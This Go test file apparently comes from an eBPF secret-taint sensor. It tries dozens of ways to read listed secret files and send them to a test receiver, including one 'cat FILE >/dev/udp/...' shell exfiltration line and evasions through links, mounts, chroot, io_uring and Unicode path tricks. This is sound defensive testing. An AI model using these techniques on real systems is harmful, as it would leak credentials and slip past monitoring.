//go:build vmguest

// Package sources tries what taints by itself: secret files, and destinations that nobody trusts. Each attempt is made without the
// sensor first, where it must get the text out; what counts is the receiver.
package sources

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"golang.org/x/sys/unix"

	"weir/internal/event"
	"weir/test/vm/guest/inside"
	"weir/test/vm/guest/rig"
)

func TestMain(m *testing.M) { inside.Main(m) }

const bin = "/srv/" // programs start faster from the guest's own disk

const policy = `
taint:
  secret_files:
    - /srv/secret/
    - /srv/one/token
    - /srv/links/token
    - /srv/links/key
    - /srv/way/up/deep/
    - /box/token
    - ~/.keys/id_*
    - "**/.env"
    - "**/*.pem"
approver: none
`

// attempt reads a file that is listed, and sends what is in it, in one process: whatever is to stop it must be there in between.
type attempt struct {
	name    string
	file    string // that is made, outside, with the text in it
	outside string // shell, outside
	before  string // shell, in the session; FILE is the file, S what may be used freely
	argv    string // DEST is where to
	after   string
	tcp     bool
	run     bool // the file is a program; what is sent is -say
	hands   bool // somebody outside opens the file and hands it over
	shell   bool // argv is for one
	none    bool // no taint, and it arrives: a control
	anew    bool // the list is looked up for another policy after before
}

func attempts() []attempt {
	const read = "egress file -path FILE -to DEST"
	return []attempt{
		{name: "open", file: "/srv/secret/a", argv: read},
		{name: "i386", file: "/srv/secret/a", argv: "egress.386 file -path FILE -to DEST"},
		{name: "deeper", file: "/srv/secret/x/y/z/a", argv: read},
		{name: "file", file: "/srv/one/token", argv: read},
		{name: "home", file: "/root/.keys/id_rsa", argv: read},
		{name: "anywhere", file: "/srv/plain/.env", argv: read},
		{name: "anywhere-star", file: "/srv/plain/deep/down/server.pem", argv: read},
		{name: "tmpfs-anywhere", file: "/tmp/plain/.env", argv: read},
		{name: "symlink", file: "/srv/secret/a", before: "ln -s FILE S/link", argv: "egress file -path S/link -to DEST"},
		{name: "hardlink", file: "/srv/secret/a", before: "ln FILE S/hard", argv: "egress file -path S/hard -to DEST"},
		{name: "hardlink-file", file: "/srv/one/token", before: "ln FILE S/hard", argv: "egress file -path S/hard -to DEST"},
		{name: "rename", file: "/srv/secret/a", before: "mv FILE S/moved", argv: "egress file -path S/moved -to DEST"},
		{name: "rename-anywhere", file: "/srv/plain/.env", before: "mv FILE S/moved", argv: "egress file -path S/moved -to DEST"},
		{name: "rename-directory", file: "/srv/secret/x/a", before: "mv /srv/secret/x S/moved", argv: "egress file -path S/moved/a -to DEST"},
		{name: "rename-parent", file: "/srv/secret/a", before: "mv /srv/secret /srv/elsewhere", argv: "egress file -path /srv/elsewhere/a -to DEST", after: "mv /srv/elsewhere /srv/secret"},
		{name: "bind-file", file: "/srv/secret/a", before: "touch S/at; mount --bind FILE S/at", argv: "egress file -path S/at -to DEST", after: "umount S/at"},
		{name: "bind-directory", file: "/srv/secret/x/a", before: "mkdir S/at; mount --bind /srv/secret/x S/at", argv: "egress file -path S/at/a -to DEST", after: "umount S/at"},
		{name: "overlay", file: "/srv/secret/a", before: "mkdir -p S/at; mount -t overlay -o lowerdir=/srv/secret:/srv/plain overlay S/at", argv: "egress file -path S/at/a -to DEST", after: "umount S/at"},
		{name: "overlay-hardlink", file: "/srv/secret/b", outside: "ln -f FILE /srv/plain/a-link", before: "mkdir -p S/at; mount -t overlay -o lowerdir=/srv/secret:/srv/plain overlay S/at", argv: "egress file -path S/at/b -to DEST", after: "umount S/at"},
		{name: "mounted-file", file: "/srv/plain/cfg", outside: "mkdir -p S/at; touch S/at/.env; mount --bind FILE S/at/.env", argv: "egress file -path S/at/.env -to DEST", after: "umount S/at/.env"},
		{name: "namespace", file: "/srv/secret/a", argv: "unshare -m chroot /srv /egress file -path /secret/a -to DEST"},
		{name: "procroot", file: "/srv/secret/a", argv: "egress file-procroot -path FILE -to DEST"},
		{name: "opath", file: "/srv/secret/a", argv: "egress file-opath -path FILE -to DEST"},
		{name: "handle", file: "/srv/secret/a", argv: "egress file-handle -path FILE -to DEST"},
		{name: "uring", file: "/srv/secret/a", argv: "egress file-uring -path FILE -to DEST"},
		{name: "sendfile", file: "/srv/secret/a", argv: "egress file-sendfile -path FILE -to DEST", tcp: true},
		{name: "execute", file: "/srv/secret/program", argv: "egress file-run -path FILE -to DEST -say TEXT", run: true},
		{name: "handed", file: "/srv/secret/a", argv: "egress file-take -listen -path S/socket -to DEST", hands: true},
		{name: "shell", file: "/srv/secret/a", argv: "cat FILE >/dev/udp/10.77.0.2/PORT", shell: true},
		{name: "B130_unlinked", file: "/srv/plain/real", outside: "mkdir -p /srv/links; ln -sfn ../plain/real /srv/links/token; sleep 5; rm /srv/links/token; sleep 5", argv: read},
		{name: "B130_other_link", file: "/srv/plain/older", outside: "mkdir -p /srv/links; ln -f FILE /srv/links/key; sleep 5", before: "rm /srv/links/key; sleep 5", argv: read},
		{name: "B131_above", anew: true, file: "/srv/way/up/deep/a", outside: "sleep 5", before: "mv /srv/way/up S/up", argv: "egress file -path S/up/deep/a -to DEST", after: "rm -r S/up"},
		{name: "B131_link", anew: true, file: "/srv/plain/linked/deep/a", outside: "mkdir -p /srv/way; ln -sfn ../plain/linked /srv/way/up; sleep 5", before: "rm /srv/way/up", argv: "egress file -path /srv/plain/linked/deep/a -to DEST"},
		{name: "B131_link_over", anew: true, file: "/srv/plain/linked/deep/a", outside: "mkdir -p /srv/way; ln -sfn ../plain/linked /srv/way/up; sleep 5", before: "ln -sfn /dev/null /srv/way/up", argv: "egress file -path /srv/plain/linked/deep/a -to DEST", after: "rm /srv/way/up"},
		{name: "B133_below", file: "/srv/plain/led", outside: "ln -sfn ../plain/led /srv/secret/led", argv: "egress file -path /srv/secret/led -to DEST", after: "rm /srv/secret/led"},
		{name: "B133_anywhere", file: "/srv/plain/env", outside: "mkdir -p S/at; ln -sfn FILE S/at/.env", argv: "egress file -path S/at/.env -to DEST"},
		{name: "B134_case", file: "/srv/folds/in/.env", outside: "umount /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds", argv: "egress file -path /srv/folds/in/.ENV -to DEST"},
		{name: "B134_ignored", file: "/srv/folds/in/server.pem", outside: "umount /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds", argv: "egress file -path /srv/folds/in/server.p\u200bem -to DEST"},
		{name: "other-name", file: "/srv/plain/env", argv: read, none: true},
		{name: "other-directory", file: "/srv/secretive/a", argv: read, none: true},
		{name: "other-home", file: "/root/.keys/known", argv: read, none: true},
		{name: "listing", file: "/srv/plain/a", before: "ls -l /srv/secret; stat /srv/secret/a; readlink -f /srv/secret/a", argv: read, none: true},
		{name: "writing", file: "/srv/plain/a", before: "echo x >/srv/secret/made; rm /srv/secret/made", argv: read, none: true},
	}
}

// id names its test.
func (a attempt) id() string {
	if strings.HasPrefix(a.name, "B1") {
		return a.name
	}
	return "G2_" + a.name
}

type fixture struct {
	world  *rig.Outside
	sensor *rig.Sensor
	runs   int
	seen   int // changes of taint that were looked at
}

// try makes one attempt and returns the text that is in the file, and the moment before.
func (f *fixture) try(t *testing.T, a attempt, s *rig.Session) (text string, port int, mark rig.Marks, out string) {
	t.Helper()
	f.runs++
	text = fmt.Sprintf("text.%d.of.%s.end", f.runs, a.name)
	free := fmt.Sprintf("/srv/free/%s/%d", strings.Split(t.Name(), "/")[0], f.runs)
	port = f.world.Port()
	network := "udp"
	if a.tcp {
		network = "tcp"
	}
	f.world.World.Listen(t, network, fmt.Sprintf("[::]:%d", port))
	words := strings.NewReplacer("FILE", a.file, "S/", free+"/", "DEST", rig.World4+":"+strconv.Itoa(port), "TEXT", text, "PORT", strconv.Itoa(port))
	content := text
	if a.run {
		content = "#!/bin/true\n"
	}
	write(t, a.file, content)
	if a.outside != "" {
		rig.Must(t, words.Replace(a.outside))
	}
	if err := os.MkdirAll(free, 0o755); err != nil {
		t.Fatal(err)
	}
	mark = f.world.Mark(t)
	line := words.Replace(a.argv)
	if strings.HasPrefix(line, "egress") {
		line = bin + line
	}
	argv := strings.Fields(line)
	if a.before != "" || a.shell {
		argv = []string{"bash", "-c", "set -e; " + words.Replace(a.before) + "\n" + line}
	}
	if a.anew {
		argv[2] = "set -e; " + words.Replace(a.before) + "\necho done; read x\n" + line
	}
	p := s.Start(t, argv...)
	if a.anew {
		f.renew(t, p)
	}
	if a.hands {
		p.WaitLine("listening", rig.Late)
		f.world.Agent.Start(t, bin+"egress", "file-give", "-path", free+"/socket", "-say", a.file).WaitLine("given", rig.Late)
	}
	p.Close(t)
	r := p.Wait(t)
	if a.after != "" {
		rig.Must(t, words.Replace(a.after))
	}
	return text, port, mark, r.String()
}

// renew puts another policy in force once a process is done with what comes before.
func (f *fixture) renew(t *testing.T, p *rig.Proc) {
	t.Helper()
	if p.WaitLine("done", rig.Late) == "" {
		t.Fatal(p.Wait(t))
	}
	if f.sensor != nil {
		f.sensor.Policy(t, policy+"hold: false\n")
		time.Sleep(5 * time.Second) // files are looked for every two
		f.sensor.Policy(t, policy)
	}
	p.Input(t, "\n")
}

func write(t *testing.T, file, text string) {
	t.Helper()
	dir := file[:strings.LastIndex(file, "/")]
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) arrives(t *testing.T, text, out string) {
	t.Helper()
	if !f.world.WaitGot(text, rig.Late) {
		t.Errorf("nothing arrived: %s", out)
	}
}

// made has the directories that are listed, and others, before anybody looks for them.
func made(t *testing.T) {
	rig.Must(t, "mkdir -p /srv/secret /srv/one /srv/box /srv/plain /srv/secretive /srv/free /root/.keys /tmp/plain; modprobe overlay; "+
		"cp $(type -P egress) $(type -P egress.386) "+bin+"; modprobe loop; umount -q /srv/folds; truncate -s 16M /srv/folds.ext4; "+
		"mkfs.ext4 -qF -O casefold /srv/folds.ext4; mkdir -p /srv/folds; mount -o loop /srv/folds.ext4 /srv/folds; mkdir /srv/folds/in; chattr +F /srv/folds/in")
}

// TestWithoutSensor shows that each attempt gets the text out.
func TestWithoutSensor(t *testing.T) {
	made(t)
	f := &fixture{world: rig.NewOutside(t)}
	bare := rig.Bare(t, "free")
	for _, a := range attempts() {
		t.Run(a.name, func(t *testing.T) {
			text, _, _, out := f.try(t, a, bare)
			f.arrives(t, text, out)
		})
	}
}

// TestFiles makes each attempt in a clean session: opening the file taints it before anything can be sent.
func TestFiles(t *testing.T) {
	made(t)
	f := &fixture{world: rig.NewOutside(t)}
	f.sensor = rig.StartSensor(t, policy)
	s := f.sensor.Guard(t, "reader")
	for _, a := range rig.Some(attempts(), func(a attempt) string { return strings.SplitN(a.id(), "_", 2)[0] }) {
		t.Run(a.id(), func(t *testing.T) {
			text, port, mark, out := f.try(t, a, s)
			if a.none {
				f.arrives(t, text, out)
			} else {
				if a.tcp {
					port = 0 // it was connected before, when it was clean
				}
				f.world.Nothing(t, mark, text, port)
				f.told(t, a)
			}
			if tainted := f.tainted(t, "reader"); tainted == a.none {
				t.Errorf("tainted secret: %v: %s", tainted, out)
			}
			if f.tainted(t, "reader") {
				f.sensor.Untaint(t, "reader", "secret")
			}
		})
	}
	t.Run("G2_chrooted", f.chrooted)
	t.Run("G2_too_many", f.tooMany)
}

// boxed is a mount namespace whose processes have a root of their own, as a container's have, but for the last one, which has another.
const boxed = `set -e
mount -t tmpfs box /srv/box
cd /srv/box
mkdir -p usr proc dev box empty
ln -s usr/bin usr/lib usr/lib64 .
mount --bind /usr usr
mount --bind /dev dev
mount -t proc proc proc
cp /srv/egress .
cp /srv/egress empty
echo -n $TEXT >box/token
exec chroot . bash -ec 'echo made
read x
chroot /empty /egress sleep -after 10m &
for i in {1..600}; do [ "$(readlink /proc/$!/root)" != /empty ] || break; sleep 0.1; done
[ $(readlink /proc/$!/root) = /empty ]
echo astray
read x
/egress file -path /box/token -to $DEST || :
kill $!'
`

// chrooted: from where a container's files are looked up is not for the last process that it started to say.
func (f *fixture) chrooted(t *testing.T) {
	s := f.sensor.Guard(t, "chrooted")
	place := f.world.Place()
	f.world.World.Listen(t, "udp", fmt.Sprintf("[::]:%d", place.Port))
	p := s.StartEnv(t, []string{"TEXT=" + place.Text, "DEST=" + place.To}, "unshare", "-m", "bash", "-c", boxed)
	if p.WaitLine("made", rig.Late) == "" {
		t.Fatal(p.Wait(t))
	}
	box := fmt.Sprintf("/proc/%d/root/box", p.Pid())
	rig.Eventually(t, "the container's files are found", func() bool { return found(t, box) })
	p.Input(t, "\n")
	if p.WaitLine("astray", rig.Late) == "" {
		t.Fatal(p.Wait(t))
	}
	time.Sleep(5 * time.Second) // processes are looked for every two
	f.sensor.Policy(t, policy+"hold: false\n")
	rig.Eventually(t, "they are found for the new policy", func() bool { return found(t, box) }) // who answers late is not waited for
	mark := f.world.Mark(t)
	p.Input(t, "\n")
	r := p.Wait(t)
	f.world.Nothing(t, mark, place.Text, place.Port)
	if !f.tainted(t, "chrooted") {
		t.Errorf("not tainted: %s", r)
	}
}

// found says whether the kernel was told of a directory that a list of secret files names.
func found(t *testing.T, dir string) bool {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Stat(dir, &st); err != nil {
		t.Fatalf("stat %s: %v", dir, err)
	}
	m, err := ebpf.LoadPinnedMap("/sys/fs/bpf/weir/secret_nodes", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	// after policy and generation; the kernel has devices as one number of 12 and 20 bits
	inode := binary.NativeEndian.AppendUint64(nil, st.Ino)
	inode = binary.NativeEndian.AppendUint32(inode, unix.Major(st.Dev)<<20|unix.Minor(st.Dev))
	key, value := make([]byte, m.KeySize()), make([]byte, m.ValueSize())
	for it := m.Iterate(); it.Next(&key, &value); {
		if bytes.Equal(key[8:20], inode) {
			return true
		}
	}
	return false
}

// tooMany: that a container has more listed files than are kept is told.
func (f *fixture) tooMany(t *testing.T) {
	s := f.sensor.Guard(t, "many")
	p := s.Start(t, "unshare", "-m", "bash", "-c", "mount -t tmpfs keys /root/.keys && touch /root/.keys/id_{1..300} && echo made && read x")
	if p.WaitLine("made", rig.Late) == "" {
		t.Fatal(p.Wait(t))
	}
	told := func(e event.Event) bool { return e.Kind == event.Error && strings.Contains(e.Message, "more than 256") }
	f.sensor.Event(t, told)
	time.Sleep(3 * time.Second)
	n := 0
	for _, e := range f.sensor.Events(t) {
		if told(e) {
			n++
		}
	}
	if n != 1 {
		t.Errorf("told %d times, want once", n)
	}
	p.Close(t)
	p.Wait(t)
}

// told waits for the event of an attempt. It passes over those of operators.
func (f *fixture) told(t *testing.T, a attempt) {
	t.Helper()
	name := a.file[strings.LastIndex(a.file, "/")+1:]
	var e event.Event
	for end := time.Now().Add(rig.Late); e.Change == nil; time.Sleep(50 * time.Millisecond) {
		all := f.sensor.Events(t, event.Taint)
		for _, e = range all[min(f.seen, len(all)):] {
			f.seen++
			if e.Change.Source == "file" && slices.Contains(e.Change.Set, "secret") {
				break
			}
			if e.Change.Source != "operator" {
				t.Errorf("another change: %+v", *e.Change)
			}
			e = event.Event{}
		}
		if time.Now().After(end) {
			t.Error("no event tells of it")
			return
		}
	}
	if !strings.Contains(e.Change.Why, name) && !strings.Contains(a.name, "rename-directory") && !strings.HasPrefix(a.name, "B13") || e.Process == nil || e.Change.By == "" {
		t.Errorf("the event does not name file and command: %+v %+v", e.Change, e.Process)
	}
}

func (f *fixture) tainted(t *testing.T, name string) bool {
	t.Helper()
	for _, c := range f.sensor.Containers(t) {
		if c.Name == name {
			return slices.Contains(c.Taint, "secret")
		}
	}
	t.Fatalf("no session %s", name)
	return false
}
